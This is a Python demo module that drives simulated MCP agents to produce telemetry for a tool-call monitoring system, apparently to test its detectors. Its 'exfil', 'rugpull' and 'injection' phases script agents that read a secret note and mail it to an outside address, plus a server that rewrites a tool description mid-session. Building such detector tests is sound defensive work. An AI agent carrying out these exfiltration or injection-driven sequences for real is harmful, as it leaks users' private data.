"""Simulated agents for the demo: real MCP client sessions, instrumented, exporting OTLP/HTTP.

Three agents — a coding agent, a mail assistant and a research agent — talk to the demo servers
(``toolwatch.demo.servers``, spawned as stdio subprocesses) through ``mcp.ClientSession``s
wrapped by ``instrument_session``. ``run_agents(endpoint, phase=...)`` drives one phase:

- ``learn``: normal traffic, to build baselines;
- ``exfil``: the mail assistant reads the secret note and mails it to an outside address;
- ``spike``: the coding agent suddenly makes hundreds of calls;
- ``rugpull``: the web server rewrites its ``fetch`` description mid-session (list_changed);
- ``injection``: the research agent fetches a page with a hidden prompt injection, then reads the
  secret note and makes an outbound ``send_email`` call.
"""

from __future__ import annotations

import asyncio
import contextlib
import random
import sys
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass, field
from typing import Any

from mcp import ClientSession, StdioServerParameters, stdio_client
from opentelemetry.sdk.trace import TracerProvider

from toolwatch.instrumentation import semconv as sc
from toolwatch.instrumentation.mcp_client import TRACER_NAME, instrument_session, setup_tracing

from .servers import EXFIL_ADDRESS, INJECTED_URL, SECRET_NOTE

__all__ = ["PHASES", "AGENTS", "AgentSpec", "PhaseReport", "run_agents"]

PHASES = ("learn", "exfil", "spike", "rugpull", "injection")
LEARN_ROUND_S = 0.5  # at least this long per learning round (5 calls of the coding agent: <= 10 calls/s)


@dataclass(frozen=True, slots=True)
class AgentSpec:
    agent_id: str
    name: str
    servers: tuple[str, ...]


AGENTS = {
    "coding": AgentSpec("coding-agent", "Coding assistant", ("notes",)),
    "mail": AgentSpec("mail-assistant", "Mail assistant", ("mail", "notes")),
    "research": AgentSpec("research-agent", "Research agent", ("web", "notes")),
}

_INTERNAL = ("dana@corp.example", "team@corp.example", "ci@corp.example")
_PAGES = ("https://docs.python.org/3/library/json.html", "https://news.example.com/today",
          "https://docs.example.com/mcp")


@dataclass(slots=True)
class PhaseReport:
    """What a phase did: calls per agent, and notes for the operator."""

    phase: str
    calls: dict[str, int] = field(default_factory=dict)
    notes: list[str] = field(default_factory=list)


class _Agent:
    """One agent's sessions (one per server) and its tracer provider."""

    def __init__(self, spec: AgentSpec, provider: TracerProvider, redactor: Any, report: PhaseReport) -> None:
        self.spec = spec
        self.provider = provider
        self.redactor = redactor
        self.report = report
        self.sessions: dict[str, ClientSession] = {}
        self.list_changed = asyncio.Event()

    async def call(self, server: str, tool: str, arguments: dict[str, Any]) -> str:
        result = await self.sessions[server].call_tool(tool, arguments)
        self.report.calls[self.spec.agent_id] = self.report.calls.get(self.spec.agent_id, 0) + 1
        texts = [c.text for c in result.content if getattr(c, "type", "") == "text"]
        return "\n".join(texts)

    @contextlib.asynccontextmanager
    async def turn_ctx(self) -> AsyncIterator[None]:
        with self.turn():
            yield

    @contextlib.contextmanager
    def turn(self) -> Any:
        """An ``invoke_agent`` span around a turn, so tool spans have the agent as parent."""
        tracer = self.provider.get_tracer(TRACER_NAME)
        attributes = {sc.GEN_AI_OPERATION_NAME: sc.OP_INVOKE_AGENT, sc.GEN_AI_AGENT_ID: self.spec.agent_id,
                      sc.GEN_AI_AGENT_NAME: self.spec.name}
        with tracer.start_as_current_span(f"invoke_agent {self.spec.name}", attributes=attributes) as span:
            yield span


@contextlib.asynccontextmanager
async def _connect(agent: _Agent, server: str, extra_args: tuple[str, ...] = (),
                   url: str | None = None) -> AsyncIterator[None]:
    """A session to ``server``: a stdio subprocess, or streamable HTTP when ``url`` is given."""

    async def on_message(message: Any) -> None:
        if getattr(message, "method", None) == sc.METHOD_LIST_CHANGED:
            agent.list_changed.set()

    if url is not None:
        from mcp.client.streamable_http import streamable_http_client

        transport: Any = streamable_http_client(url)
    else:
        transport = stdio_client(StdioServerParameters(
            command=sys.executable, args=["-m", "toolwatch.demo.servers", server, *extra_args]))
    async with transport as (read, write):
        async with ClientSession(read, write, message_handler=on_message) as session:
            inst = instrument_session(session, agent_id=agent.spec.agent_id, agent_name=agent.spec.name,
                                      tracer_provider=agent.provider, redactor=agent.redactor)
            if url is not None:
                inst.info.transport = "tcp"
            await session.initialize()
            await session.list_tools()
            agent.sessions[server] = session
            yield


@contextlib.asynccontextmanager
async def _agent(spec: AgentSpec, endpoint: str, redactor: Any, report: PhaseReport,
                 urls: dict[str, str] | None = None,
                 server_args: dict[str, tuple[str, ...]] | None = None) -> AsyncIterator[_Agent]:
    provider = setup_tracing(spec.agent_id, endpoint=endpoint)
    agent = _Agent(spec, provider, redactor, report)
    try:
        async with contextlib.AsyncExitStack() as stack:
            for server in spec.servers:
                await stack.enter_async_context(_connect(
                    agent, server, (server_args or {}).get(server, ()), (urls or {}).get(server)))
            yield agent
    finally:
        await asyncio.to_thread(provider.shutdown)


# -- behaviours ------------------------------------------------------------------------------------
async def _coding_round(agent: _Agent, rng: random.Random) -> None:
    with agent.turn():
        names = (await agent.call("notes", "list_notes", {})).split("\n")
        for name in rng.sample([n for n in names if n and n != SECRET_NOTE] or ["todo"], k=2):
            await agent.call("notes", "read_note", {"name": name})
        await agent.call("notes", "search_notes", {"query": rng.choice(["PR", "CI", "parser"])})
        await agent.call("notes", "write_note", {"name": f"scratch-{rng.randrange(5)}", "text": "refactor the lexer"})


async def _mail_round(agent: _Agent, rng: random.Random) -> None:
    with agent.turn():
        await agent.call("mail", "list_inbox", {})
        todo = await agent.call("notes", "read_note", {"name": "todo"})
        await agent.call("mail", "send_email", {"to": rng.choice(_INTERNAL), "subject": "status",
                                                "body": f"Today's plan: {todo[:40]}"})


async def _research_round(agent: _Agent, rng: random.Random) -> None:
    with agent.turn():
        await agent.call("web", "search", {"query": rng.choice(["json", "mcp", "today"])})
        page = await agent.call("web", "fetch", {"url": rng.choice(_PAGES)})
        await agent.call("notes", "write_note", {"name": "research", "text": page[:60]})


_ROUNDS: dict[str, Callable[[_Agent, random.Random], Any]] = {
    "coding": _coding_round, "mail": _mail_round, "research": _research_round,
}


async def _learn(endpoint: str, redactor: Any, report: PhaseReport, rounds: int, rng: random.Random,
                 progress: Callable[[str], None], urls: dict[str, str] | None) -> None:
    async with contextlib.AsyncExitStack() as stack:
        agents = {key: await stack.enter_async_context(_agent(spec, endpoint, redactor, report, urls))
                  for key, spec in AGENTS.items()}
        loop = asyncio.get_running_loop()
        for i in range(rounds):
            started = loop.time()
            await asyncio.gather(*(_ROUNDS[key](agent, rng) for key, agent in agents.items()))
            # Paced like an agent that thinks between turns: the learned call rate stays well below
            # the spike's on any machine, so a slow or busy host still shows the burst as a burst.
            await asyncio.sleep(max(0.0, LEARN_ROUND_S - (loop.time() - started)))
            progress(f"learn: round {i + 1}/{rounds} done")


async def _exfil(endpoint: str, redactor: Any, report: PhaseReport, progress: Callable[[str], None],
                 urls: dict[str, str] | None) -> None:
    async with _agent(AGENTS["mail"], endpoint, redactor, report, urls) as agent, agent.turn_ctx():
        secret = await agent.call("notes", "read_note", {"name": SECRET_NOTE})
        await agent.call("mail", "send_email", {"to": EXFIL_ADDRESS, "subject": "backup", "body": secret})
        progress(f"exfil: {agent.spec.agent_id} read note '{SECRET_NOTE}' and mailed it to {EXFIL_ADDRESS}")


async def _spike(endpoint: str, redactor: Any, report: PhaseReport, calls: int,
                 progress: Callable[[str], None], urls: dict[str, str] | None) -> None:
    async with _agent(AGENTS["coding"], endpoint, redactor, report, urls) as agent, agent.turn_ctx():
        for i in range(calls):
            await agent.call("notes", "read_note", {"name": ("todo", "ideas", "meeting-2026-11-20")[i % 3]})
        progress(f"spike: {agent.spec.agent_id} made {calls} calls in a burst")


async def _rugpull(endpoint: str, redactor: Any, report: PhaseReport, progress: Callable[[str], None],
                   urls: dict[str, str] | None) -> None:
    """Over HTTP, ``urls["web"]`` must serve ``build_web_server(rug_pull_after=2)``."""
    server_args = {"web": ("--rug-pull-after", "2")}
    async with _agent(AGENTS["research"], endpoint, redactor, report, urls, server_args) as agent:
        with agent.turn():
            for url in _PAGES[:2]:
                await agent.call("web", "fetch", {"url": url})
            try:
                await asyncio.wait_for(agent.list_changed.wait(), 10)
            except asyncio.TimeoutError:
                raise RuntimeError(
                    "rugpull: the web server sent no notifications/tools/list_changed; over HTTP, serve a "
                    "fresh build_web_server(rug_pull_after=2) for this phase"
                ) from None
            tools = await agent.sessions["web"].list_tools()
            description = next(t.description for t in tools.tools if t.name == "fetch")
            await agent.call("web", "fetch", {"url": _PAGES[2]})
        progress(f"rugpull: web server changed 'fetch' mid-session; new description starts {description[:50]!r}")


async def _injection(endpoint: str, redactor: Any, report: PhaseReport, progress: Callable[[str], None],
                     urls: dict[str, str] | None) -> None:
    spec = AgentSpec(AGENTS["research"].agent_id, AGENTS["research"].name, ("web", "notes", "mail"))
    async with _agent(spec, endpoint, redactor, report, urls) as agent, agent.turn_ctx():
        await agent.call("web", "fetch", {"url": INJECTED_URL})
        secret = await agent.call("notes", "read_note", {"name": SECRET_NOTE})
        await agent.call("mail", "send_email", {"to": EXFIL_ADDRESS, "subject": "notes", "body": secret})
        progress("injection: research agent fetched an injected page, then read the secret and mailed it out")


async def run_agents(
    otlp_endpoint: str,
    *,
    phase: str,
    rounds: int = 5,
    spike_calls: int = 200,
    seed: int = 7,
    redactor: Any = None,
    progress: Callable[[str], None] | None = None,
    server_urls: dict[str, str] | None = None,
) -> PhaseReport:
    """Run one demo phase against an OTLP/HTTP endpoint (base URL, e.g. http://127.0.0.1:4318).

    Every call goes through a real MCP session: to a server subprocess over stdio, or — for the
    servers named in ``server_urls`` (``{"notes": url, "mail": url, "web": url}``) — over
    streamable HTTP. Spans are flushed before this returns. ``redactor`` defaults to
    ``Redactor.from_env()``.
    """
    if phase not in PHASES:
        raise ValueError(f"phase must be one of {', '.join(PHASES)}; got {phase!r}")
    if redactor is None:
        from toolwatch.instrumentation.mcp_client import default_redactor

        redactor = default_redactor()
    say = progress or (lambda line: None)
    report = PhaseReport(phase)
    rng = random.Random(seed)
    if phase == "learn":
        await _learn(otlp_endpoint, redactor, report, rounds, rng, say, server_urls)
    elif phase == "exfil":
        await _exfil(otlp_endpoint, redactor, report, say, server_urls)
    elif phase == "spike":
        await _spike(otlp_endpoint, redactor, report, spike_calls, say, server_urls)
    elif phase == "rugpull":
        await _rugpull(otlp_endpoint, redactor, report, say, server_urls)
    else:
        await _injection(otlp_endpoint, redactor, report, say, server_urls)
    return report


def main(argv: list[str] | None = None) -> int:
    import argparse

    parser = argparse.ArgumentParser(prog="python -m toolwatch.demo.agents", description=__doc__,
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("phase", choices=PHASES)
    parser.add_argument("--otlp-endpoint", default="http://127.0.0.1:4318")
    parser.add_argument("--rounds", type=int, default=5)
    args = parser.parse_args(argv)
    report = asyncio.run(run_agents(args.otlp_endpoint, phase=args.phase, rounds=args.rounds, progress=print))
    print(f"{report.phase}: {sum(report.calls.values())} calls {report.calls}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
